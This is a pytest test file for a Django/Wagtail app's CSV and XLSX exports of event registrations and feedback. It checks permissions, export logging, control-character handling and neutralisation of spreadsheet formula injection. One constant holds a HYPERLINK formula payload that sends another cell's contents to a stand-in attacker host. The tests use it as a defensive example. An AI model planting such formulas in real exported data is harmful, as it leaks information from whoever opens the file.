"""CSV and XLSX exports of responses and registrations, each logged."""

import csv
import gc
import io
import uuid

import pytest
from openpyxl import load_workbook

from council import registration as seats
from council.models import ExportLog
from council.submissions import Participant, save_response
from tests.factories.council import make_convening, make_staff, make_survey


def test_registrations_export_as_csv_and_xlsx_and_each_is_logged(staff):
    convening = make_convening()
    seats.register(
        convening.pk,
        seats.Registrant(
            name="=HYPERLINK(evil)",
            email="e@example.org",
            attendance_mode="online",
            accommodation_request="ASL",
        ),
        uuid.uuid4(),
    )
    response = staff.get(f"/admin/council/convenings/{convening.pk}/registrations.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[0][:3] == ["name", "email", "status"]
    assert rows[1][0] == "'=HYPERLINK(evil)"  # never a formula in a spreadsheet
    assert rows[1][6] == "ASL"

    response = staff.get(f"/admin/council/convenings/{convening.pk}/registrations.xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet["B2"].value == "e@example.org"

    logs = ExportLog.objects.order_by("exported_at")
    assert [(log.what, log.file_format, log.row_count, log.username) for log in logs] == [
        ("registrations", "csv", 1, "council-staff"),
        ("registrations", "xlsx", 1, "council-staff"),
    ]


def test_a_convenings_feedback_exports_every_answer(staff):
    convening = make_convening()
    prompt = make_survey(subject="convening", convening=convening)
    by_text = {q.text: q for q in prompt.questions.all()}
    save_response(
        prompt,
        Participant(region="North", voice="student"),
        [(by_text["Clear?"], 5), (by_text["Where?"], ["Class", "Home"])],
        uuid.uuid4(),
    )
    response = staff.get(f"/admin/council/convenings/{convening.pk}/feedback.csv")
    header, row = list(
        csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
    )
    answers = dict(zip(header, row, strict=True))
    assert answers["Clear?"] == "5" and answers["Where?"] == "Class; Home"
    assert answers["voice"] == "Student" and answers["region"] == "North"
    assert ExportLog.objects.get().what == "feedback"


def test_exports_need_permission_and_a_known_format(db, host_client):
    convening = make_convening()
    outsider = host_client("localhost")
    outsider.force_login(make_staff("no-perms", perms=()))
    refused = outsider.get(f"/admin/council/convenings/{convening.pk}/registrations.csv")
    assert refused.status_code == 302 and refused["Location"] == "/admin/"  # Wagtail's refusal
    allowed = host_client("localhost")
    allowed.force_login(make_staff())
    assert (
        allowed.get(f"/admin/council/convenings/{convening.pk}/registrations.pdf").status_code
        == 404
    )
    assert ExportLog.objects.count() == 0


FORMULA_LEADS = ["=", "+", "-", "@", "\t", "\r"]
LINK = 'HYPERLINK("http://attacker.example/?x="&B2,"Verify")'


def register(convening, name: str, needs: str = ""):
    seats.register(
        convening.pk,
        seats.Registrant(
            name=name,
            email=f"{uuid.uuid4().hex[:8]}@example.org",
            attendance_mode="online",
            accommodation_request=needs,
        ),
        uuid.uuid4(),
    )


def download(client, path: str) -> bytes:
    response = client.get(path)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_rows(content: bytes) -> list[tuple]:
    return list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))


def test_every_formula_start_is_neutralized_in_both_formats(staff):
    convening = make_convening()
    for lead in FORMULA_LEADS:
        register(convening, lead + LINK)
    path = f"/admin/council/convenings/{convening.pk}/registrations"

    in_csv = sorted(row[0] for row in csv_rows(download(staff, path + ".csv"))[1:])
    workbook = load_workbook(io.BytesIO(download(staff, path + ".xlsx")))
    in_xlsx = sorted(row[0].value for row in workbook.active.iter_rows(min_row=2))

    assert in_csv == sorted("'" + lead + LINK for lead in FORMULA_LEADS)
    # A workbook keeps line ends as "\n", so a leading "\r" comes back as one.
    assert in_xlsx == sorted("'" + lead.replace("\r", "\n") + LINK for lead in FORMULA_LEADS)
    assert all(row[0].data_type == "s" for row in workbook.active.iter_rows(min_row=2))


def test_a_question_that_reads_as_a_formula_is_neutralized_in_the_header(staff):
    convening = make_convening()
    prompt = make_survey(subject="convening", convening=convening)
    prompt.questions.filter(text="Clear?").update(text="=1+1")
    path = f"/admin/council/convenings/{convening.pk}/feedback"

    assert "'=1+1" in csv_rows(download(staff, path + ".csv"))[0]
    assert "'=1+1" in xlsx_rows(download(staff, path + ".xlsx"))[0]


def test_control_characters_do_not_stop_a_workbook(staff):
    convening = make_convening()
    register(convening, "Bell\x07 Ringer", needs="Form\x0cfeed\x1b")
    path = f"/admin/council/convenings/{convening.pk}/registrations"

    rows = xlsx_rows(download(staff, path + ".xlsx"))

    assert rows[1][0] == "Bell\ufffd Ringer"
    assert rows[1][6] == "Form\ufffdfeed\ufffd"
    assert csv_rows(download(staff, path + ".csv"))[1][0] == "Bell\ufffd Ringer"
    assert ExportLog.objects.filter(file_format="xlsx").count() == 1


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_export_is_logged_only_once_it_was_delivered(staff, file_format):
    convening = make_convening()
    register(convening, "Dana")
    path = f"/admin/council/convenings/{convening.pk}/registrations.{file_format}"

    abandoned = staff.get(path).streaming_content
    next(abandoned)  # the server writes the file, and the client goes away before the end
    # Collected now: left for later, the test client's wrapper would end "its" request in
    # the middle of a later test's, and request_finished resets that request's urlconf.
    del abandoned
    gc.collect()
    assert ExportLog.objects.count() == 0

    delivered = staff.get(path)
    assert ExportLog.objects.count() == 0
    b"".join(delivered.streaming_content)
    assert ExportLog.objects.get().file_format == file_format
